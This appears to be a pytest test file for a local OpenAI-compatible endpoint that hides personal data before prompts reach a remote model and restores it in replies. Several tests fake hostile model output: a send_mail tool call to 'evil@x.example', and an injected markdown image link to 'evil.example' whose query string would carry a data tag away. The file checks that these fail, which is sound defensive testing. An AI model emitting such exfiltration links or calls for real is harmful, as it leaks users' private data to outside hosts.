"""The local endpoint, asked as programs ask: by the `openai` package, and by curl."""

from __future__ import annotations

import contextlib
import json
import re
import subprocess
import threading
import time
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import openai
import pytest

from renga.client.answerers import Answerer, ByModel, NoSuchModel, Used
from renga.client.dialogue import Until
from renga.client.endpoint import Serving, endpoint
from renga.client.sanitisation.desk import Desk
from renga.errors import RengaError, UsageError, did_you_mean
from renga.models.contract import Clearance, Piece, Prompt, Sampling

NAME, MAIL = "Jane Quillfeather", "jane.quill@nordvik-labs.io"
TOKEN = "the-token"


@dataclass
class Elsewhere:
    """Stands for the federation: keeps what reached it, and says what the test wants, five bytes at a
    time."""

    says: str = "You said: {}"
    leaves: bool = True
    asked: list[Prompt] = field(default_factory=list)
    sampled: list[Sampling] = field(default_factory=list)
    fails: RengaError | None = None
    from_the_start: bool = False
    slowly: float = 0.0
    ended: threading.Event = field(default_factory=threading.Event)

    def answer(self, prompt: Prompt, sampling: Sampling, used: Used) -> Iterator[Piece]:
        self.asked.append(prompt)
        self.sampled.append(sampling)
        text = self.says.replace("{}", prompt.text)
        try:
            for start in range(0, len(text), 5):
                if self.fails and (start >= 10 or self.from_the_start):
                    raise self.fails
                used.completion_tokens += 1
                time.sleep(self.slowly)
                yield Piece(text[start : start + 5])
        finally:
            self.ended.set()
        used.sent, used.received, used.prompt_tokens = len(prompt.text), len(text), 7


class Here:
    def respond(self, prompt: Prompt, sampling: Sampling) -> Iterator[Piece]:
        assert prompt.clearance is Clearance.RAW
        yield Piece(f"here: {prompt.text}")


@dataclass
class Both:
    host: Elsewhere = field(default_factory=Elsewhere)

    def listed(self) -> Mapping[str, str]:
        return {"host": "the server", "edge": "this machine"}

    def open(self, name: str) -> Answerer:
        if name not in self.listed():
            raise NoSuchModel(f"there is no model {name!r}", hint=did_you_mean(name, self.listed()))
        return self.host if name == "host" else ByModel(Here)

    def embed(self, name: str, texts: list[str]) -> tuple[list[list[float]], int]:
        if name != "edge":
            raise UsageError("only the edge model embeds: texts don't leave for that")
        return [[float(len(text)), 0.5] for text in texts], sum(map(len, texts))


@dataclass
class Up:
    models: Both
    url: str
    folder: Path

    @property
    def host(self) -> Elsewhere:
        return self.models.host

    def client(self) -> Any:
        return openai.OpenAI(base_url=self.url, api_key=TOKEN, max_retries=0)


@pytest.fixture
def up(tmp_path: Path) -> Iterator[Up]:
    models = Both()
    (tmp_path / "sanitisation.toml").write_text('style = "tag"\n')
    serving = Serving(endpoint(models, Desk(tmp_path / "vault.db"), TOKEN), 0)
    yield Up(models, serving.url, tmp_path)
    serving.stop()


def asking(text: str, **more: Any) -> dict[str, Any]:
    return {"model": "host", "messages": [{"role": "user", "content": text}], "max_tokens": 400, **more}


def test_an_answer_is_whole_and_what_left_is_clean(up: Up) -> None:
    made = up.client().chat.completions.create(**asking(f"I am {NAME}, {MAIL}"))
    assert made.choices[0].message.content == f"You said: I am {NAME}, {MAIL}"
    assert made.choices[0].finish_reason == "stop"
    (left,) = up.host.asked
    assert left.clearance is Clearance.SANITISED and "Quill" not in left.text and "nordvik" not in left.text
    told = made.model_dump()["renga"]
    assert told["hidden"] == {"PERSON": 1, "EMAIL": 1} and told["bytes_sent"] == len(left.text)
    assert (
        made.usage is not None
        and made.usage.total_tokens == made.usage.prompt_tokens + made.usage.completion_tokens
    )


def test_a_stream_is_restored_as_it_comes(up: Up) -> None:
    stream = up.client().chat.completions.create(
        **asking(f"I am {NAME}"), stream=True, stream_options={"include_usage": True}
    )
    chunks = list(stream)
    pieces = [chunk.choices[0].delta.content or "" for chunk in chunks if chunk.choices]
    assert "".join(pieces) == f"You said: I am {NAME}"
    assert len([piece for piece in pieces if piece]) > 3
    assert chunks[-1].usage is not None and chunks[-1].usage.completion_tokens > 0
    last = next(chunk for chunk in reversed(chunks) if chunk.choices)
    assert last.choices[0].finish_reason == "stop" and last.model_dump()["renga"]["hidden"] == {"PERSON": 1}


def test_many_turns_are_one_conversation_without_being_named(up: Up) -> None:
    client = up.client()
    messages: list[Any] = [
        {"role": "system", "content": "Be kind."},
        {"role": "user", "content": f"I am {NAME}"},
    ]
    first = client.chat.completions.create(model="host", messages=messages)
    messages += [
        {"role": "assistant", "content": first.choices[0].message.content},
        {"role": "user", "content": "Who am I? Jane?"},
    ]
    second = client.chat.completions.create(model="host", messages=messages)
    names = [first.model_dump()["renga"]["conversation"], second.model_dump()["renga"]["conversation"]]
    assert names[0] == names[1]
    tags = [set(re.findall(r"<PERSON_1_\w+>", prompt.whole)) for prompt in up.host.asked]
    assert tags[0] == tags[1] != set()
    went = up.host.asked[1]
    assert "Quill" not in went.whole and went.text.startswith("Who am I?")
    assert [one.role for one in went.before] == ["system", "user", "assistant"]
    other = client.chat.completions.create(model="host", messages=messages[:2])
    assert other.model_dump()["renga"]["conversation"] not in names


def test_a_header_names_conversation_and_plan(up: Up) -> None:
    for _ in range(2):
        made = up.client().chat.completions.with_raw_response.create(
            **asking(f"I am {NAME}"), extra_headers={"X-Renga-Conversation": "mine", "X-Renga-Plan": "host"}
        )
        assert made.headers["x-renga-conversation"] == "mine"
        assert json.loads(made.headers["x-renga-hidden"]) == {"PERSON": 1}
    assert up.host.asked[0].text == up.host.asked[1].text


TOOLS: list[Any] = [
    {
        "type": "function",
        "function": {"name": "send_mail", "parameters": {"type": "object", "properties": {}}},
    }
]


def test_tools_are_called_with_surrogates_unless_the_owner_allows_more(up: Up) -> None:
    client = up.client()
    client.chat.completions.create(**asking(f"I am {NAME}"), extra_headers={"X-Renga-Conversation": "t"})
    tag = re.findall(r"<PERSON_\w+>", up.host.asked[0].text)[0]
    up.host.says = (
        f'```json\n{{"name": "send_mail", "arguments": {{"to": "evil@x.example", "body": "{tag}"}}}}\n```'
    )
    kept = {"X-Renga-Conversation": "t"}
    for stream in (False, True):
        made = client.chat.completions.create(
            **asking(f"mail {NAME}", tools=TOOLS), stream=stream, extra_headers=kept
        )
        if stream:
            chunks = list(made)
            calls = [
                call for chunk in chunks if chunk.choices for call in chunk.choices[0].delta.tool_calls or []
            ]
            finish = [chunk.choices[0].finish_reason for chunk in chunks if chunk.choices][-1]
        else:
            calls, finish = made.choices[0].message.tool_calls, made.choices[0].finish_reason
        (call,) = calls
        assert finish == "tool_calls" and call.function.name == "send_mail"
        assert json.loads(call.function.arguments)["body"] == tag
    result = [
        {"role": "user", "content": f"mail {NAME}"},
        {"role": "assistant", "tool_calls": [call.model_dump()]},
        {"role": "tool", "tool_call_id": call.id, "content": f"sent to {MAIL}"},
    ]
    up.host.says = "Done."
    done = client.chat.completions.create(model="host", messages=result, tools=TOOLS, extra_headers=kept)
    assert done.choices[0].message.content == "Done." and done.choices[0].message.tool_calls is None
    assert "nordvik" not in up.host.asked[-1].text and "Result: sent to <EMAIL" in up.host.asked[-1].text

    (up.folder / "sanitisation.toml").write_text('style = "tag"\nrestore_into = ["tools"]\n')
    serving = Serving(endpoint(up.models, Desk(up.folder / "vault.db"), TOKEN), 0)
    up.host.says = f'{{"name": "send_mail", "arguments": {{"body": "https://a.b/{tag}"}}}}'
    other: Any = openai.OpenAI(base_url=serving.url, api_key=TOKEN)
    made = other.chat.completions.create(**asking("mail", tools=TOOLS), extra_headers=kept)
    serving.stop()
    assert json.loads(made.choices[0].message.tool_calls[0].function.arguments) == {
        "body": f"https://a.b/{NAME}"
    }


def test_text_beside_tools_streams_and_stops_are_cut(up: Up) -> None:
    up.host.says = "Plain text. STOP and more"
    made = up.client().chat.completions.create(**asking("x", tools=TOOLS, stop=["STOP"]))
    assert made.choices[0].message.content == "Plain text. "
    until = Until(["\nUser:"])
    assert "".join(map(until.feed, "fine\nUse it\nUser: no")) == "fine\nUse it"


def test_an_injected_link_does_not_carry_anything_away(up: Up) -> None:
    up.client().chat.completions.create(**asking(f"I am {NAME}"), extra_headers={"X-Renga-Conversation": "i"})
    tag = re.findall(r"<PERSON_\w+>", up.host.asked[0].text)[0]
    up.host.says = f"{tag}: ![x](https://evil.example/?q={tag})"
    made = up.client().chat.completions.create(**asking("go"), extra_headers={"X-Renga-Conversation": "i"})
    assert made.choices[0].message.content == f"{NAME}: ![x](https://evil.example/?q={tag})"
    assert made.model_dump()["renga"]["not_restored"] == 1


def test_what_is_here_is_asked_as_it_is(up: Up) -> None:
    made = up.client().chat.completions.create(**asking(f"I am {NAME}") | {"model": "edge"})
    assert made.choices[0].message.content == f"here: I am {NAME}"
    assert made.model_dump()["renga"]["hidden"] == {} and up.host.asked == []


def test_models_completions_and_embeddings(up: Up) -> None:
    client = up.client()
    assert {model.id for model in client.models.list()} == {"host", "edge"}
    assert client.models.retrieve("edge").id == "edge"
    made = client.completions.create(model="host", prompt=[f"I am {NAME}", "hello"], max_tokens=99)
    assert [choice.text for choice in made.choices] == [f"You said: I am {NAME}", "You said: hello"]
    told = made.model_dump()["renga"]  # of all answers together, of which each is a conversation of its own
    assert told["hidden"] == {"PERSON": 1} and "conversation" not in told
    assert told["bytes_sent"] == sum(len(prompt.text) for prompt in up.host.asked)
    made = client.completions.create(model="host", prompt=["hello", f"I am {NAME}"], max_tokens=99)
    assert made.model_dump()["renga"]["hidden"] == {"PERSON": 1}
    stream = client.completions.create(model="host", prompt=f"I am {NAME}", stream=True)
    assert "".join(chunk.choices[0].text for chunk in stream) == f"You said: I am {NAME}"
    made = client.embeddings.create(model="edge", input=["four", "fourteen"])
    assert [one.embedding for one in made.data] == [[4.0, 0.5], [8.0, 0.5]]
    assert made.usage.prompt_tokens == made.usage.total_tokens == 12
    with pytest.raises(openai.BadRequestError, match="edge model"):
        client.embeddings.create(model="host", input="x")


def test_curl(up: Up) -> None:
    body = json.dumps(asking(f"I am {NAME}", stream=True))
    done = subprocess.run(
        ["curl", "-sN", f"{up.url}/chat/completions", "-H", f"Authorization: Bearer {TOKEN}",
         "-H", "Content-Type: application/json", "-d", body],
        capture_output=True, text=True, timeout=30, check=True,
    )  # fmt: skip
    events = [line.removeprefix("data: ") for line in done.stdout.splitlines() if line]
    assert events[-1] == "[DONE]"
    said = "".join(json.loads(event)["choices"][0]["delta"].get("content", "") for event in events[:-1])
    assert said == f"You said: I am {NAME}"


class TestWhatIsRefused:
    def test_who_lacks_the_token_or_comes_by_another_name(self, up: Up) -> None:
        for headers in (
            {},
            {"Authorization": "Bearer no"},
            {"Authorization": f"Bearer {TOKEN}é".encode("latin-1")},
        ):
            given: Any = headers
            assert httpx.get(f"{up.url}/models", headers=given).status_code == 401
        good = {"Authorization": f"Bearer {TOKEN}"}
        assert httpx.get(f"{up.url}/models", headers=good).status_code == 200
        assert httpx.get(f"{up.url}/models", headers={**good, "Host": "evil.example"}).status_code == 403

    def test_what_is_no_request_and_never_quotes_it(self, up: Up) -> None:
        def post(path: str, body: Any) -> httpx.Response:
            content = body if isinstance(body, bytes) else json.dumps(body).encode()
            headers = {"Authorization": f"Bearer {TOKEN}", "Content-Type": "application/json"}
            return httpx.post(f"{up.url}/{path}", content=content, headers=headers)

        image = [{"type": "image_url", "image_url": {"url": NAME}}]
        for path, body in [
            ("chat/completions", f'{{"messages": "{NAME}'.encode()), ("chat/completions", [NAME]),
            ("chat/completions", {"model": "host", "messages": NAME}),
            ("chat/completions", {"model": "host"}), ("chat/completions", b"\xff\xfe"),
            ("chat/completions", {**asking(NAME), "model": None}),
            ("chat/completions", asking(NAME, temperature=NAME)),
            ("chat/completions", asking(NAME, n=2)), ("chat/completions", asking(NAME, tools=[NAME])),
            ("chat/completions", {"model": "host", "messages": [{"role": NAME, "content": "x"}]}),
            ("chat/completions", {"model": "host", "messages": [{"role": "user", "content": image}]}),
            ("completions", {"model": "host", "prompt": [1, 2]}),
            ("embeddings", {"model": "edge", "input": [[1]]}),
            ("completions", {"model": "host", "prompt": NAME, "echo": True}),
            ("completions", {"model": "host", "prompt": NAME, "n": 2}),
            ("chat/completions", asking(NAME, stream=True, stream_options=NAME)),
            ("chat/completions", asking(NAME, stop=5)), ("chat/completions", asking(NAME, stop=[""])),
            ("chat/completions", asking(NAME) | {"max_tokens": 0}),
            ("chat/completions", asking(NAME) | {"max_tokens": float("inf")}),
            ("chat/completions", asking(NAME, logprobs=True)),
            ("chat/completions", asking(NAME, response_format={"type": "json_object"})),
            ("chat/completions", asking(NAME, tools=TOOLS, tool_choice=NAME)),
            ("chat/completions", asking(NAME, tools=[{"type": "function", "function": {"name": [NAME]}}])),
            ("chat/completions", {"model": "host", "messages": [{"role": "assistant", "tool_calls": 5}]}),
            ("chat/completions", {"model": "host", "messages": [{"role": "assistant", "tool_calls": [5]}]}),
            ("chat/completions", b'{"a":' * 3000 + b"1" + b"}" * 3000),
        ]:  # fmt: skip
            answer = post(path, body)
            assert answer.status_code == 400, (path, body, answer.text)
            assert "Quill" not in answer.text and answer.json()["error"]["message"]
        unknown = post("chat/completions", {**asking("x"), "model": "hosts"})
        assert unknown.status_code == 404 and "did you mean 'host'" in unknown.text
        assert httpx.get(f"{up.url}/nothing", headers={"Authorization": f"Bearer {TOKEN}"}).status_code == 404
        assert up.host.asked == []

    def test_a_body_that_is_not_called_json_is_told_so(self, up: Up) -> None:
        """As curl sends it that was given no header."""
        body, headers = json.dumps(asking(NAME)), {"Authorization": f"Bearer {TOKEN}"}
        told = httpx.post(f"{up.url}/chat/completions", content=body, headers=headers)
        assert told.status_code == 400 and "application/json" in told.text and "Quill" not in told.text

    @pytest.mark.parametrize("chunked", [False, True])
    def test_a_body_without_end_is_not_read_to_its_end(
        self, up: Up, chunked: bool, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr("renga.client.endpoint_guard.LARGEST_BODY", 1 << 16)
        body: Any = iter([b"a" * (1 << 15)] * 8) if chunked else b"a" * (1 << 18)
        headers = {"Authorization": f"Bearer {TOKEN}", "Content-Type": "application/json"}
        with contextlib.suppress(httpx.WriteError):  # it hung up on us
            told = httpx.post(f"{up.url}/chat/completions", content=body, headers=headers)
            assert told.status_code == 413 and "at most" in told.text

    def test_what_the_rules_block(self, up: Up) -> None:
        (up.folder / "sanitisation.toml").write_text('[kinds]\nEMAIL = "block"\n')
        serving = Serving(endpoint(up.models, Desk(up.folder / "vault.db"), TOKEN), 0)
        client: Any = openai.OpenAI(base_url=serving.url, api_key=TOKEN, max_retries=0)
        with pytest.raises(openai.PermissionDeniedError, match="1 EMAIL") as blocked:
            client.chat.completions.create(**asking(MAIL))
        assert "nordvik" not in str(blocked.value) and up.host.asked == []
        serving.stop()

    def test_a_server_that_fails_in_the_middle_is_an_error_not_an_end(self, up: Up) -> None:
        up.host.fails = RengaError("the host is busy learning; retry in 20 s")
        with pytest.raises(openai.RateLimitError):
            up.client().chat.completions.create(**asking("a long enough question"))
        with pytest.raises(openai.APIError, match="busy"):
            list(up.client().chat.completions.create(**asking("a long enough question"), stream=True))

    def test_what_fails_before_the_first_word_of_a_stream_has_a_status(self, up: Up) -> None:
        up.host.fails, up.host.from_the_start = RengaError("busy: 1 answer at a time; retry in 5 s"), True
        with pytest.raises(openai.RateLimitError) as refused:
            up.client().chat.completions.create(**asking("question"), stream=True)
        assert refused.value.response.headers["retry-after"] == "5"
        with pytest.raises(openai.RateLimitError):
            up.client().completions.create(model="host", prompt="question", stream=True)


@pytest.mark.parametrize("stream", [True, False])
def test_who_goes_in_the_middle_of_an_answer_ends_it(up: Up, stream: bool) -> None:
    up.host.says, up.host.slowly = "word " * 4000, 0.02
    body = json.dumps(asking("go on and on", stream=stream))
    headers = {"Authorization": f"Bearer {TOKEN}", "Content-Type": "application/json"}
    with (
        contextlib.suppress(httpx.ReadTimeout),
        httpx.stream(
            "POST", f"{up.url}/chat/completions", content=body, headers=headers, timeout=0.3
        ) as told,
    ):
        for _ in zip(range(3), told.iter_lines(), strict=False):
            pass
    assert up.host.ended.wait(10)


def test_two_programs_at_once_on_one_conversation(up: Up) -> None:
    said: list[str] = []

    def ask(which: int) -> None:
        made = up.client().chat.completions.create(
            **asking(f"{which}: I am {NAME}"), extra_headers={"X-Renga-Conversation": "both"}
        )
        said.append(made.choices[0].message.content or "")

    threads = [threading.Thread(target=ask, args=(which,)) for which in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(said) == [f"You said: {which}: I am {NAME}" for which in range(4)]
    assert len({prompt.text[1:] for prompt in up.host.asked}) == 1


def test_the_port_that_is_taken_is_another(up: Up) -> None:
    port = int(re.findall(r":(\d+)/", up.url)[0])
    second = Serving(endpoint(up.models, Desk(up.folder / "vault.db"), TOKEN), port)
    assert second.url != up.url
    assert httpx.get(f"{second.url}/models", headers={"Authorization": f"Bearer {TOKEN}"}).status_code == 200
    second.stop()
